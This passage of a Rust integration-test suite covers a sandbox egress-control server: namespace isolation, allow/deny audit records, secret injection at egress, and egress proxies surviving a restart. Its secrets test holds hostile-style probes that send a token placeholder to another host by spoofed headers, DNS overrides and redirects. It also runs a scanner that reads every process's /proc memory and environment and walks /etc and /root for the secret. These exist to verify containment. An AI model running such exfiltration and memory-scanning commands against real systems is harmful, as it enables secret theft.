                c.contains("qemu-system") && c.contains(&format!("/sandboxes/{}/", sb.id))
            })
        })
        .map(|p| p.file_name().to_string_lossy().into_owned())
        .expect("the sandbox's QEMU");
    let dev = std::fs::read_to_string(format!("/proc/{qemu}/net/dev")).unwrap();
    let ifaces: Vec<&str> =
        dev.lines().skip(2).filter_map(|l| l.split(':').next()).map(str::trim).collect();
    assert_eq!(ifaces, ["lo"], "QEMU's namespace: {dev}");
    // Every decision is audited, with the same reasons.
    let recs = srv.egress(&sb, |r| r.len() >= 4);
    assert!(
        recs.iter().any(|r| r["detail"]["allowed"] == true && r["detail"]["port"] == 80),
        "{recs:?}"
    );
    assert!(
        recs.iter().any(|r| r["detail"]["address"] == "10.66.0.5"
            && r["detail"]["reason"].as_str().unwrap().contains("private")),
        "{recs:?}"
    );
    assert!(
        recs.iter()
            .any(|r| r["detail"]["address"] == "100.96.0.1" && r["detail"]["allowed"] == false),
        "{recs:?}"
    );
    // Inbound: getHost(8000) reaches a service bound to the guest's loopback.
    let (out, _) = srv.run(&sb, "cd /tmp && echo preview > index.html && (python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &) ; for i in $(seq 100); do (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null && break; sleep 0.2; done; echo up");
    assert!(out.contains("up"), "{out}");
    let host = format!("8000-{}.{}", sb.id, sb.domain.clone().unwrap());
    let r = http(
        srv.port,
        "GET",
        "/index.html",
        &[("Host", &host), ("E2B-Traffic-Access-Token", &sb.token)],
        b"",
    );
    assert_eq!((r.status, r.text().trim()), (200, "preview"), "{}", srv.log());
    let r = http(
        srv.port,
        "GET",
        "/",
        &[("Host", &format!("8001-{}.x", sb.id)), ("X-Access-Token", &sb.token)],
        b"",
    );
    assert_eq!(r.status, 502);
    assert!(r.text().contains("port is not open"), "{}", r.text());
    // A live policy change applies to the guest too.
    let r = srv.api(
        "PUT",
        &format!("/sandboxes/{}/network", sb.id),
        json!({"allowOut": ["other.test"], "denyOut": ["0.0.0.0/0"]}),
    );
    assert_eq!(r.status, 204, "{}", r.text());
    let (_, code) = srv.run(&sb, "curl -sS -m 10 http://www.allowed.test/");
    assert_ne!(code, 0);
    let (out, code) = srv.run(&sb, "curl -sS -m 20 http://other.test/");
    assert_eq!(code, 0, "{out}");
    let r = srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(r.status, 204);
}

/// Secrets through the API in real sandboxes: a rule puts a secret into requests for its
/// host, and the value is nowhere the sandbox can look (env, files, its processes' memory,
/// the upstream's echo), nor sent to any other host, whatever the sandbox tries.
#[test]
fn secrets_at_egress_in_a_sandbox() {
    const VALUE: &str = "sk-test-51c0ffee0ddba11";
    let net = fakenet::Internet::start(None);
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("fake-internet-ca.pem");
    std::fs::write(&ca, &net.cert_pem).unwrap();
    let mut args = net_args(&net);
    args.extend(["--egress-extra-ca".into(), ca.display().to_string()]);
    let Some(srv) = Server::start("secrets_at_egress_in_a_sandbox", &args) else { return };
    let r = srv.api("POST", "/secrets", json!({"name": "Upstream-Token", "value": VALUE}));
    assert_eq!(r.status, 201, "{}", r.text());
    assert!(!r.text().contains(VALUE), "a response carried the value");
    assert_eq!(r.json()["name"], "upstream-token");
    // The database holds it sealed only.
    let db = std::fs::read(srv.data.path().join("ringfence.db")).unwrap_or_default();
    let wal = std::fs::read(srv.data.path().join("ringfence.db-wal")).unwrap_or_default();
    assert!(![db, wal].concat().windows(VALUE.len()).any(|w| w == VALUE.as_bytes()));

    let rules = json!({"www.allowed.test": [
        {"transform": {"headers": {"Authorization": "Bearer ${e2b.secrets.upstream-token}"}}}
    ]});
    let sb = srv.create(json!({
        "templateID": "base",
        "envVars": {"TOKEN": "${e2b.secrets.upstream-token}"},
        "network": {"rules": rules}
    }));
    // The sandbox's own trust store lists its CA: plain curl (no --cacert) works for the
    // terminated host; the fake internet's CA is not in it, so a passed-through host fails
    // verification unless the test adds that CA (the real internet's CAs are in the bundle).
    let (out, code) = srv.run(&sb, "curl -sS -m 10 https://www.allowed.test/headers");
    assert_eq!(code, 0, "{out}");
    assert!(out.contains(&"*".repeat(VALUE.len())) && !out.contains(VALUE), "{out}");
    let seen = |addr: &str| {
        net.seen
            .lock()
            .unwrap()
            .iter()
            .filter(|(a, _)| a == addr)
            .map(|(_, h)| h.clone())
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert!(seen("203.0.113.10:443").contains(&format!("Authorization: Bearer {VALUE}")));
    let (out, code) = srv.run(&sb, "python3 -c \"import urllib.request as u; print(u.urlopen('https://www.allowed.test/headers').read().decode())\"");
    assert_eq!(code, 0, "python's default trust: {out}");
    assert!(!out.contains(VALUE), "{out}");

    // Hostile: its env var holds the placeholder; sent to another host, it stays that.
    let cert = net.cert_pem.clone();
    let (out, _) = srv.run(
        &sb,
        &format!(
            "cat > /tmp/inet.pem <<'EOF'\n{cert}EOF\n\
             echo env=$TOKEN; \
             curl -sS -m 10 --cacert /tmp/inet.pem -H \"X-Key: $TOKEN\" https://other.test/headers; \
             curl -sS -m 10 -H 'Host: other.test' https://www.allowed.test/headers; \
             curl -sS -m 10 --resolve www.allowed.test:443:203.0.113.20 https://www.allowed.test/headers; \
             curl -sS -m 10 -L --cacert /tmp/inet.pem -H \"X-Key: $TOKEN\" https://www.allowed.test/redirect/other.test"
        ),
    );
    assert!(out.contains("env=${e2b.secrets.upstream-token}"), "{out}");
    assert!(out.contains("X-Key: ${e2b.secrets.upstream-token}"), "{out}");
    assert!(out.contains("differs from the TLS server name"), "{out}");
    assert!(!out.contains(VALUE), "{out}");
    assert!(!seen("203.0.113.20:443").contains(VALUE), "another host got the value");

    // Nowhere inside: not in any process's environment or memory, not in its files.
    let scan = r#"
import os, re
v = os.environ["NEEDLE"].encode()[::-1]
hits = []
# Not this process: it holds the needle to search with.
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        if v in open(f"/proc/{pid}/environ", "rb").read():
            hits.append(f"environ {pid}")
        mem = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not m:
                continue
            a, b = int(m.group(1), 16), int(m.group(2), 16)
            if b - a > 1 << 30:
                continue
            try:
                mem.seek(a)
                if v in mem.read(b - a):
                    hits.append(f"memory {pid} {line.strip()}")
            except OSError:
                pass
    except OSError:
        pass
for root in ["/etc", "/tmp", "/home", "/root", "/usr/local", "/var"]:
    for d, _, files in os.walk(root):
        for f in files:
            try:
                if v in open(os.path.join(d, f), "rb").read():
                    hits.append(os.path.join(d, f))
            except OSError:
                pass
print("hits:", hits)
"#;
    // The needle goes in reversed, so the scanner's own memory never holds it forwards.
    let reversed: String = VALUE.chars().rev().collect();
    let (out, code) =
        srv.run(&sb, &format!("NEEDLE='{reversed}' python3 -c '{}'", scan.replace('\'', "\"")));
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("hits: []"), "{out}");

    // The audit trail names the rule and the secret, never the value.
    let recs = srv.egress(&sb, |r| r.iter().any(|x| !x["detail"]["secrets"].is_null()));
    let text = serde_json::to_string(&recs).unwrap();
    assert!(!text.contains(VALUE));
    assert!(
        recs.iter().any(|x| x["detail"]["rule"] == "www.allowed.test"
            && x["detail"]["secrets"] == json!(["upstream-token"])),
        "{recs:#?}"
    );
    // Destroyed: its host's requests are refused rather than sent without it.
    let r = srv.api("DELETE", "/secrets/upstream-token", Value::Null);
    assert_eq!(r.status, 204, "{}", r.text());
    let (out, _) = srv.run(&sb, "curl -sS -m 10 https://www.allowed.test/headers");
    assert!(out.contains("does not exist"), "{out}");
    assert!(!srv.log().contains(VALUE), "the server's log has the value");
    let r = http(srv.port, "GET", "/audit?limit=1000", &[("X-API-Key", &srv.key)], b"");
    assert_eq!(r.status, 200, "{}", r.text());
    let text = r.text();
    assert!(!text.contains(VALUE), "an audit record has the value");
    for action in ["secret.create", "secret.destroy"] {
        assert!(text.contains(action), "no {action} record: {text}");
    }
}

/// E2B's `egressProxy` through the API: a proxy outside the ceiling is refused with 400
/// naming it; an allowed sandbox's connections (plain, passed-through TLS and the
/// TLS-terminating path of a request rule) leave through the proxy, a denied destination never
/// reaches it, the API and every record show the proxy without its password, `update_network`
/// changes it live. Then the server is killed with -9 and started again: the sandbox's proxy
/// (its password read back sealed) and its egress CA (renewed into its trust store) still work.
#[test]
fn egress_proxy_and_ca_across_a_restart() {
    let test = "egress_proxy_and_ca_across_a_restart";
    let net = fakenet::Internet::start(None);
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("fake-internet-ca.pem");
    std::fs::write(&ca, &net.cert_pem).unwrap();
    let mut args = net_args(&net);
    args.extend(["--egress-extra-ca".into(), ca.display().to_string()]);
    let Some(mut srv) = Server::start(test, &args) else { return };
    let pw = fakenet::PROXY_PASS;

    for (addr, named) in [("10.66.0.5:1081", "10.66.0.5"), ("private.test:1081", "private.test")] {
        let r = srv.api(
            "POST",
            "/v2/sandboxes",
            json!({"templateID": "base", "network": {"egressProxy": {"address": addr}}}),
        );
        assert_eq!(r.status, 400, "{addr}: {}", r.text());
        assert!(r.text().contains(named) && r.text().contains("egressProxy"), "{}", r.text());
    }
    assert!(!net.proxied().contains("10.66.0.5"), "{}", net.proxied());

    let socks =
        json!({"address": "proxy.fake.test:1081", "username": fakenet::PROXY_USER, "password": pw});
    let rules = json!({"www.allowed.test": [{"transform": {"headers": {"X-Via": "rule"}}}]});
    let sb = srv.create(json!({
        "templateID": "base",
        "network": {"allowOut": ["www.allowed.test"], "denyOut": ["0.0.0.0/0"],
                    "rules": rules, "egressProxy": socks}
    }));
    let (out, code) = srv.run(
        &sb,
        "curl -sS -m 10 http://www.allowed.test/ && curl -sS -m 10 https://www.allowed.test/headers",
    );
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("hello from 203.0.113.10:80") && out.contains("X-Via: rule"), "{out}");
    let log = net.proxied();
    assert!(log.contains("203.0.113.40:1081 socks5 203.0.113.10:80 user=rf"), "{log}");
    assert!(log.contains("203.0.113.40:1081 socks5 203.0.113.10:443 user=rf"), "{log}");
    let (out, _) = srv.run(&sb, "curl -sS -m 5 http://203.0.113.20/");
    assert!(out.contains("not in allowOut"), "{out}");
    assert!(!net.proxied().contains("203.0.113.20"), "{}", net.proxied());

    let v = srv.api("GET", &format!("/sandboxes/{}/network", sb.id), Value::Null).json();
    assert_eq!(v["egressProxy"], json!({"address": "proxy.fake.test:1081", "username": "rf"}));
    let d = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(d.json()["network"]["egressProxy"]["address"], "proxy.fake.test:1081");
    assert!(!d.text().contains(pw));

    // Live: HTTP CONNECT now.
    let connect = json!({"address": "http://203.0.113.40:3128", "username": fakenet::PROXY_USER, "password": pw});
    let r = srv.api(
        "PUT",
        &format!("/sandboxes/{}/network", sb.id),
        json!({"allowOut": ["www.allowed.test"], "denyOut": ["0.0.0.0/0"], "rules": rules,
               "egressProxy": connect}),
    );
    assert_eq!(r.status, 204, "{}", r.text());
    let (out, code) = srv.run(&sb, "curl -sS -m 10 https://www.allowed.test/headers");
    assert_eq!(code, 0, "{out}");
    let count = |s: &str| net.proxied().matches(s).count();
    let via_connect = count("203.0.113.40:3128 connect 203.0.113.10:443 user=rf");
    assert_eq!(via_connect, 1, "{}", net.proxied());
    // Out of the ceiling on update too.
    let r = srv.api(
        "PUT",
        &format!("/sandboxes/{}/network", sb.id),
        json!({"egressProxy": {"address": "169.254.169.254:80"}}),
    );
    assert_eq!(r.status, 400, "{}", r.text());
    assert!(r.text().contains("169.254.169.254"), "{}", r.text());

    // kill -9, start again: same proxy (password opened from its sealed copy), CA renewed.
    srv.kill9();
    srv.spawn(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let deadline = Instant::now() + Duration::from_secs(60);
    let (out, code) = loop {
        let (out, code) = srv.run(&sb, "curl -sS -m 10 https://www.allowed.test/headers");
        if code == 0 || Instant::now() > deadline {
            break (out, code);
        }
        std::thread::sleep(Duration::from_millis(500));
    };
    assert_eq!(code, 0, "after the restart: {out}\n{}", srv.log());
    assert!(out.contains("X-Via: rule"), "{out}");
    assert_eq!(count("203.0.113.40:3128 connect 203.0.113.10:443 user=rf"), via_connect + 1);

    // The password is nowhere: not in records, the log, or the database in the clear.
    // A connection's record is written once the server has seen it close, which may come
    // after curl's exit has been reported (under load, after this request): waited for.
    let deadline = Instant::now() + Duration::from_secs(10);
    let r = loop {
        let r = http(srv.port, "GET", "/audit?limit=1000", &[("X-API-Key", &srv.key)], b"");
        assert_eq!(r.status, 200);
        if r.text().contains("through proxy http://203.0.113.40:3128") || Instant::now() > deadline
        {
            break r;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(r.text().contains("through proxy http://203.0.113.40:3128"), "{}", r.text());
    assert!(!r.text().contains(pw), "an audit record has the proxy password");
    assert!(!srv.log().contains(pw));
    let db = std::fs::read(srv.data.path().join("ringfence.db")).unwrap_or_default();
    let wal = std::fs::read(srv.data.path().join("ringfence.db-wal")).unwrap_or_default();
    assert!(![db, wal].concat().windows(pw.len()).any(|w| w == pw.as_bytes()));
    let r = srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(r.status, 204);
}
